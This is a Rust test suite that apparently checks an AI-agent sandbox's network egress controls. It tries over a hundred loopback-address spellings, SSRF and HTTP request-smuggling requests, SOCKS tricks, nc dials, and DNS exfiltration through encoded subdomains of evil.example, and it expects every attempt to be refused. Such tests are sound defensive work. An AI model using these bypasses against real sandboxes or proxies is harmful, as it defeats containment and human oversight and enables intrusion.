//! Ways around the wall, more than a hundred on each engine, against canaries on the host's own
//! addresses. Each has its control: what leads nowhere from the box reaches its canary from the
//! host, where there is no wall.

use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, ToSocketAddrs, UdpSocket};
use std::process::Command;
use std::time::Duration;

use agentdeck::engine::Engine;
use agentdeck::model::policy::NetworkMode;
use agentdeck::shim::config::RelayConfig;
use agentdeck::shim::wire::Role;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::common::on_both_engines;
use crate::common::place::Place;
use crate::common::talk::script;
use crate::network::{Canary, Inside, SONG, Way, outer_address};

/// How many ways at least a box is tried in.
const LEAST: usize = 100;

/// What a control can show of a spelling.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Control {
    /// The C library of the host reads it and arrives.
    Dialled,
    /// It needs a resolver or a network that is not here, or is read so by other programs only.
    NotHere,
}

/// One way to write the address of a canary.
struct Spelling {
    host: String,
    port: u16,
    control: Control,
}

/// A canary on each of the host's addresses.
async fn canaries() -> Vec<Canary> {
    let docker: IpAddr = Ipv4Addr::new(172, 17, 0, 1).into();
    let mut addresses: Vec<IpAddr> = vec![
        Ipv4Addr::LOCALHOST.into(),
        Ipv4Addr::new(127, 0, 0, 2).into(),
        Ipv6Addr::LOCALHOST.into(),
        docker,
    ];
    addresses.extend(outer_address());
    let mut canaries = Vec::new();
    for address in addresses {
        canaries.extend(Canary::at(address).await);
    }
    canaries
}

fn spellings(canaries: &[Canary]) -> Vec<Spelling> {
    use Control::{Dialled, NotHere};
    let mut spellings = Vec::new();
    for canary in canaries {
        let mut add = |host: &str, control| {
            spellings.push(Spelling { host: host.to_owned(), port: canary.port(), control });
        };
        match canary.address.ip() {
            IpAddr::V6(_) => {
                for host in ["[::1]", "[0:0:0:0:0:0:0:1]", "[0::0001]", "[::]"] {
                    add(host, Dialled);
                }
                add("[::1%lo]", NotHere);
            }
            IpAddr::V4(Ipv4Addr::LOCALHOST) => {
                for host in [
                    "localhost",
                    "LOCALHOST",
                    "127.1",
                    "127.0.1",
                    "0x7f.1",
                    "0X7F.0.0.1",
                    "0x7f000001",
                    "2130706433",
                    "0177.0.0.1",
                    "017700000001",
                    "0.0.0.0",
                    "0",
                    "[::ffff:7f00:1]",
                    "[0:0:0:0:0:ffff:127.0.0.1]",
                ] {
                    add(host, Dialled);
                }
                for host in [
                    "127.0.0.1.",
                    "localhost.",
                    "canary.localhost",
                    "localhost.localdomain",
                    "host.agentdeck",
                    "HOST.agentdeck.",
                    "[::127.0.0.1]",
                    "[64:ff9b::7f00:1]",
                    "[2002:7f00:1::]",
                    "127。0。0。1",
                    "①②⑦.0.0.1",
                    "127.0.0.1%00.example.org",
                ] {
                    add(host, NotHere);
                }
            }
            IpAddr::V4(_) => {}
        }
        if let IpAddr::V4(address) = canary.address.ip() {
            add(&address.to_string(), Dialled);
            add(&format!("[::ffff:{address}]"), Dialled);
        }
    }
    spellings
}

/// The control of a spelling: the host's own C library reads it and the canary is heard.
async fn dial_from_host(spelling: &Spelling) {
    let host = spelling.host.trim_matches(['[', ']']);
    let places: Vec<SocketAddr> =
        (host, spelling.port).to_socket_addrs().map(Iterator::collect).unwrap_or_default();
    for place in &places {
        let Ok(mut stream) = TcpStream::connect(place).await else { continue };
        stream.write_all(b"GET / HTTP/1.0\r\n\r\n").await.expect("sent");
        let mut heard = String::new();
        let _ = stream.read_to_string(&mut heard).await;
        if heard.ends_with(SONG) {
            return;
        }
    }
    panic!("the control of {host:?} is not heard, at {places:?}");
}

/// Requests in which two readers could see two destinations. `named` may be reached, `hidden` not.
fn riddles(named: u16, hidden: u16) -> Vec<String> {
    let named = format!("host.agentdeck:{named}");
    let hidden = format!("127.0.0.1:{hidden}");
    let end = "Connection: close\r\n\r\n";
    let get = |url: &str, host: &str| format!("GET {url} HTTP/1.1\r\nHost: {host}\r\n{end}");
    let next = get(&format!("http://{hidden}/"), &hidden);
    let post = |framing: &str| {
        format!("POST http://{named}/ HTTP/1.1\r\nHost: {named}\r\n{framing}\r\n\r\n{next}")
    };
    vec![
        get(&format!("http://{named}@{hidden}/"), &named),
        get(&format!("http://{hidden}#@{named}/"), &named),
        get(&format!("http://{hidden}\\@{named}/"), &named),
        get(&format!("http://{hidden}?@{named}/"), &named),
        get(&format!("http://{named}/"), &hidden),
        get(&format!("http://{hidden}/"), &named),
        get(&format!("//{hidden}/"), &named),
        get("/", &hidden),
        get("*", &hidden),
        get(&format!("HTTP://{hidden}/"), &named),
        get(&format!("https://{hidden}/"), &named),
        get(&format!("ftp://{hidden}/"), &named),
        get(&format!("http:{hidden}/"), &named),
        get(&format!("http:///{hidden}/"), &named),
        get(&format!("http://{hidden}:80/"), &named),
        get(&format!("http://%31%32%37.0.0.1{}/", &hidden[9..]), &named),
        get(&format!("http://127.0.0.1\t{}/", &hidden[9..]), &named),
        format!("GET http://{named}/ HTTP/1.1\r\nHost: {named}\r\nHost: {hidden}\r\n{end}"),
        format!("GET http://{named}/ HTTP/1.1\r\nHost: {named}\r\n {hidden}\r\n{end}"),
        format!("GET http://{hidden}/ HTTP/1.0\r\n\r\n"),
        format!("GET http://{hidden}/ HTTP/2.0\r\nHost: {named}\r\n{end}"),
        format!("GET http://{hidden}/\r\n\r\n"),
        format!("CONNECT {hidden} HTTP/1.1\r\nHost: {named}\r\n\r\n{next}"),
        format!("CONNECT {named} HTTP/1.1\r\nHost: {hidden}\r\n\r\n{next}"),
        format!("CONNECT http://{hidden}/ HTTP/1.1\r\nHost: {named}\r\n\r\n{next}"),
        format!("CONNECT {named}@{hidden} HTTP/1.1\r\nHost: {named}\r\n\r\n{next}"),
        format!("CONNECT 127.1{} HTTP/1.1\r\n\r\n{next}", &hidden[9..]),
        post("Content-Length: 4\r\nTransfer-Encoding: chunked"),
        post("Transfer-Encoding: chunked\r\nContent-Length: 5"),
        post("Transfer-Encoding: chunked, identity"),
        post("Transfer-Encoding : chunked"),
        post("Content-Length: 0\r\nContent-Length: 9"),
        post("Content-Length: 0"),
        format!(
            "{}{next}",
            get(&format!("http://{named}/"), &named).replace("close", "keep-alive")
        ),
        format!(
            "GET http://{named}/ HTTP/1.1\r\nHost: {named}\r\nConnection: Upgrade\r\n\
             Upgrade: h2c\r\n\r\n{next}"
        ),
    ]
}

/// SOCKS requests for an address as numbers, and what is no `CONNECT`.
fn socks_requests(canaries: &[Canary]) -> Vec<Vec<u8>> {
    let mut requests = Vec::new();
    for canary in canaries {
        let mut add = |command: u8, kind: u8, address: &[u8]| {
            let mut bytes = vec![5, 1, 0, 5, command, 0, kind];
            bytes.extend(address);
            bytes.extend(canary.port().to_be_bytes());
            bytes.extend(b"GET / HTTP/1.0\r\n\r\n");
            requests.push(bytes);
        };
        match canary.address.ip() {
            IpAddr::V4(address) => {
                add(1, 1, &address.octets());
                add(1, 4, &address.to_ipv6_mapped().octets());
                add(1, 4, &address.to_ipv6_compatible().octets());
                add(3, 1, &address.octets());
            }
            IpAddr::V6(address) => add(1, 4, &address.octets()),
        }
    }
    requests
}

pub async fn no_way_leads_around(engine: &dyn Engine, place: &mut Place) {
    let mut tried = 0;
    let canaries = canaries().await;
    let named = Canary::on_loopback().await;
    let allow = [format!("host:{}", named.port()), "*.example.org".to_owned()];
    let inside = Inside::new(engine, place, NetworkMode::Allow, &allow).await;
    let spellings = spellings(&canaries);
    for Spelling { host, port, .. } in &spellings {
        for way in Way::PROXIED {
            let answer = inside.ask(way, host, *port).await;
            assert!(way.is_refusal(&answer), "{way:?} {host}: {answer:?}");
            tried += 1;
        }
    }
    let proxy = |bytes: Vec<u8>| ("127.0.0.1".to_owned(), RelayConfig::PROXY_PORT, bytes);
    for riddle in riddles(named.port(), canaries[0].port()) {
        inside.dial(Role::Agent, proxy(riddle.into_bytes())).await;
        tried += 1;
    }
    for request in socks_requests(&canaries) {
        inside.dial(Role::Agent, proxy(request)).await;
        tried += 1;
    }
    tried += dial_without_proxy(&inside, &canaries).await;
    assert!(tried >= LEAST, "only {tried} ways were tried");
    for canary in &canaries {
        assert_eq!(canary.visitors(), 0, "{}", canary.address);
    }
    for spelling in spellings.iter().filter(|spelling| spelling.control == Control::Dialled) {
        dial_from_host(spelling).await;
    }
    for canary in &canaries {
        canary.require_song().await;
        assert!(canary.visitors() > 0, "the canary counts");
    }
    inside.remove().await;
}

/// TCP without the proxy, to every canary, with the agent's rights and with all there are in a box.
async fn dial_without_proxy(inside: &Inside<'_>, canaries: &[Canary]) -> usize {
    let dials = |canary: &Canary| {
        let (host, port) = (canary.address.ip(), canary.port());
        format!("echo GET / | {} nc -w 2 {host} {port} &\n", inside.program)
    };
    let all: String = canaries.iter().map(dials).collect();
    for role in [Role::Agent, Role::Root] {
        let heard = script(inside.engine, &inside.record, role, &format!("{all}wait")).await;
        assert!(!heard.contains(SONG), "{role:?}: {heard}");
    }
    2 * canaries.len()
}

/// A redirect is a request of its own.
pub async fn a_redirect_leads_nowhere_else(engine: &dyn Engine, place: &mut Place) {
    let canary = Canary::on_loopback().await;
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.expect("bound");
    let port = listener.local_addr().expect("an address").port();
    let target = format!("127.0.0.1:{}", canary.port());
    let answer = format!(
        "HTTP/1.1 302 Found\r\nLocation: http://{target}/\r\nContent-Length: 0\r\n\
         Connection: close\r\n\r\n"
    );
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let _ = stream.read(&mut [0; 4096]).await;
            let _ = stream.write_all(answer.as_bytes()).await;
        }
    });
    let inside = Inside::new(engine, place, NetworkMode::Allow, &[format!("host:{port}")]).await;
    let program = &inside.program;
    let fetch = format!("{program} wget -q -O - http://host.agentdeck:{port}/ 2>&1");
    let heard = script(engine, &inside.record, Role::Agent, &fetch).await;
    assert!(!heard.contains(SONG), "{heard}");
    assert_eq!(canary.visitors(), 0);
    let denied = inside.judge.denied();
    assert!(denied.iter().any(|denial| denial.place == target), "it was followed: {denied:?}");
    canary.require_song().await;
    inside.remove().await;
}

/// Datagrams have no way out, raw questions to name servers among them.
pub async fn no_datagram_leaves(engine: &dyn Engine, place: &mut Place) {
    let mut addresses: Vec<IpAddr> =
        vec![Ipv4Addr::LOCALHOST.into(), Ipv4Addr::new(172, 17, 0, 1).into()];
    addresses.extend(outer_address());
    let bound = |address: &IpAddr| UdpSocket::bind((*address, 0)).ok();
    let canaries: Vec<UdpSocket> = addresses.iter().filter_map(bound).collect();
    for canary in &canaries {
        canary.set_read_timeout(Some(Duration::from_secs(5))).expect("set");
    }
    let asks = |program: &str| -> String {
        let ask = |canary: &UdpSocket| {
            let place = canary.local_addr().expect("an address");
            format!(
                "{program} timeout 2 {program} nslookup secret.example {place} >/dev/null 2>&1 &\n"
            )
        };
        canaries.iter().map(ask).collect::<String>() + "wait"
    };
    let inside = Inside::new(engine, place, NetworkMode::Open, &[]).await;
    for role in [Role::Agent, Role::Root] {
        script(engine, &inside.record, role, &asks(&inside.program)).await;
    }
    let mut buffer = [0; 512];
    for canary in &canaries {
        canary.set_nonblocking(true).expect("set");
        assert!(canary.recv(&mut buffer).is_err(), "{canary:?} heard {buffer:?}");
        canary.set_nonblocking(false).expect("set");
    }
    // The control: from the host the same program is heard by each.
    let program = crate::docker::busybox().display().to_string();
    let asked = Command::new("sh").args(["-c", &asks(&program)]).status().expect("started");
    assert!(asked.success());
    for canary in &canaries {
        let length = canary.recv(&mut buffer).expect("the control is heard");
        assert!(buffer[..length].windows(6).any(|part| part == b"secret"));
    }
    inside.remove().await;
}

/// What is asked of the name server stays in the box, whatever the type and however long, and a
/// person can read it.
pub async fn no_name_leaves_that_is_not_allowed(engine: &dyn Engine, place: &mut Place) {
    let allow = ["pypi.example:8443".to_owned(), "*.crates.example".to_owned()];
    let inside = Inside::new(engine, place, NetworkMode::Allow, &allow).await;
    let secret = "c2vjcmv0".repeat(7);
    let long = format!("{secret}.{secret}.{secret}.evil.example");
    for kind in ["a", "aaaa", "txt", "mx", "ns", "cname", "srv", "any"] {
        let look = format!("{} nslookup -type={kind} {long} 127.0.0.1 2>&1", inside.program);
        let answer = script(engine, &inside.record, Role::Agent, &look).await;
        assert!(answer.contains("NXDOMAIN"), "{kind}: {answer}");
    }
    let mut changes = inside.judge.changes();
    let listed = async {
        while !inside.judge.denied().iter().any(|denial| denial.place == long) {
            changes.changed().await.expect("the gate is there");
        }
    };
    tokio::time::timeout(Duration::from_secs(20), listed).await.expect("it is listed");
    for name in ["pypi.example", "a.crates.example"] {
        let address: Ipv4Addr = inside.address_of(name).await.parse().expect("an address");
        assert_eq!(address.octets()[..2], [127, 64], "{name}");
    }
    inside.remove().await;
}

const SIBLING: &str = "a sibling answers";

/// Boxes do not see each other, by any address there is.
pub async fn a_sibling_is_not_reached(engine: &dyn Engine, place: &mut Place) {
    let allow = ["*.example.org".to_owned()];
    let inside = Inside::new(engine, place, NetworkMode::Allow, &allow).await;
    let program = inside.program.clone();
    // A service that answers whoever comes, in a box of the same kind.
    let mut other = Place::new();
    other.plan.image = place.plan.image.clone();
    let sibling = Inside::new(engine, &mut other, NetworkMode::Allow, &allow).await;
    let serve = format!(
        "{0} nc -ll -p 7777 -e {0} echo '{SIBLING}' >/dev/null 2>&1 </dev/null & \
         for try in 1 2 3 4 5 6 7 8 9 10; do \
         {0} nc -w 1 127.0.0.1 7777 </dev/null && break; {0} sleep 0.2; done",
        sibling.program
    );
    let control = script(engine, &sibling.record, Role::Agent, &serve).await;
    assert!(control.contains(SIBLING), "the sibling's service answers itself: {control:?}");
    let places = ["127.0.0.1", "127.0.0.2", "127.64.0.1", "0.0.0.0", "::1", "172.17.0.2"];
    let dials = places.map(|host| format!("{program} nc -w 1 {host} 7777 </dev/null &\n"));
    let heard =
        script(engine, &inside.record, Role::Root, &format!("{}wait", dials.concat())).await;
    assert!(!heard.contains(SIBLING), "{heard}");
    for host in places {
        let answer = inside.ask(Way::Connect, host, 7777).await;
        assert!(Way::Connect.is_refusal(&answer), "{host}: {answer:?}");
    }
    let run = other.plan.run.display().to_string();
    let seen = script(engine, &inside.record, Role::Root, &format!("ls {run} 2>&1 || true")).await;
    assert!(!seen.contains("egress.sock"), "{seen}");
    sibling.remove().await;
    inside.remove().await;
}

/// A port that is allowed while the box runs is dialled by programs that know no proxy.
pub async fn a_port_allowed_later_is_reached_without_a_restart(
    engine: &dyn Engine,
    place: &mut Place,
) {
    let canary = Canary::on_loopback().await;
    let inside = Inside::new(engine, place, NetworkMode::Allow, &[]).await;
    let look = format!("{} nslookup -type=a host.agentdeck 127.0.0.1 2>&1", inside.program);
    let before = script(engine, &inside.record, Role::Agent, &look).await;
    assert!(before.contains("NXDOMAIN"), "{before}");
    let mut policy = place.plan.network.clone();
    policy.allow.push(format!("host:{}", canary.port()).parse().expect("an entry"));
    inside.judge.set_policy(policy.clone());
    let known = async {
        let mut seen = BTreeSet::new();
        loop {
            let answer = script(engine, &inside.record, Role::Agent, &look).await;
            if !answer.contains("NXDOMAIN") {
                return;
            }
            seen.insert(answer);
        }
    };
    tokio::time::timeout(Duration::from_secs(20), known).await.expect("the relay was told");
    let address = inside.address_of("host.agentdeck").await;
    assert!(inside.ask(Way::Direct, &address, canary.port()).await.ends_with(SONG));
    policy.allow.clear();
    inside.judge.set_policy(policy);
    assert_eq!(inside.ask(Way::Direct, &address, canary.port()).await, "");
    assert_eq!(canary.visitors(), 1);
    inside.remove().await;
}

on_both_engines!(
    no_way_leads_around,
    a_redirect_leads_nowhere_else,
    no_datagram_leaves,
    no_name_leaves_that_is_not_allowed,
    a_sibling_is_not_reached,
    a_port_allowed_later_is_reached_without_a_restart,
);
